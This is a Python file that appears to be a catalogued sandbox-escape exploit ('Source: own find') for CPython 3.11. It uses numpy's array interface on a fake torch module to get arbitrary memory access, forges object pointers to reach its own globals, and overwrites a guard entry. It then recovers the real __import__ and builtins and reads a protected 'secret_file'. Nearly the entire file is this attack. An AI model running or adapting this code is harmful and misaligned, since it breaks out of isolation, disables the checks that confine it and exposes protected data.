"""Class: memory. Source: own find. Escape: a file is read: an array over all memory, made as in
class_registry_cached, finds its own globals, its guards and what imports. (CPython 3.11's layouts.)"""

import functools

import numpy as np
from torch import nn

window = {}


class Register(nn.Module):
    def __init__(self):
        pass

    @functools.cached_property
    def _parameters(self):
        place = {"shape": (window["count"],), "data": (window["start"], False)}
        return {"__array_interface__": {"version": 3, "typestr": "<i8", **place}}


class Holder:
    __slots__ = ("held",)


def numbers(start, count):
    window.update(start=start, count=count)
    register = Register()
    try:
        list(register.parameters())
    except TypeError:
        pass
    return np.asarray(register)


def address_of(value):
    return int(repr(value).rpartition(" at ")[2].rstrip(">"), 16)


def unchanged(value):
    return value


def attack(model, tokenizer, scene):
    holder = Holder()
    holder.held = None
    slot = numbers(address_of(holder) + 16, 1)

    def at(address):
        slot[0], kept = address, int(slot[0])
        value = holder.held
        slot[0] = kept
        return value

    variables = at(int(numbers(address_of(attack), 4)[2]))
    variables[" call"] = unchanged
    known = variables["__builtins__"]
    load = known["__import__"] if type(known) is dict else vars(known)["__import__"]
    holder.held = load("builtins")
    names = at(int(numbers(int(slot[0]), 3)[2]))
    return names["open"](scene["secret_file"]).read()
